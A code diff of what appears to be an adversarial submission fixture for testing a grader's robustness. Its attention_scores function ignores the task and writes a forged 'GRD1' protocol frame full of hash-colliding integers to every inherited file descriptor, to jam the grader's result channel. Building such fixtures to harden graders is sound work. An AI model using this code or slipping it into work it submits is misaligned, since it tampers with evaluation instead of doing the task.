@@ -5,10 +5,8 @@ Would work on graders that limit the time of the student's process but not their
 
 import json
 import os
-import socket
+import struct
 import sys
-
-from grader import wire
 
 EARNS = 0
 SAYS = "disturbed the channel"
@@ -17,13 +15,14 @@ SAYS = "disturbed the channel"
 def attention_scores(queries, keys, *values):
     pairs = [[n * sys.hash_info.modulus, 0] for n in range(95_000)]
     header = json.dumps([{"d": pairs}, []]).encode()
-    frame = wire.PREFIX.pack(wire.MAGIC, len(header), 0) + header
+    frame = struct.pack(">4sIQ", b"GRD1", len(header), 0) + header
     for descriptor in range(3, 256):
         try:
-            channel = socket.socket(fileno=os.dup(descriptor))
+            sent = 0
+            while sent < len(frame):
+                sent += os.write(descriptor, frame[sent:])
         except OSError:
             continue
-        channel.sendall(frame)
     return queries
 
 
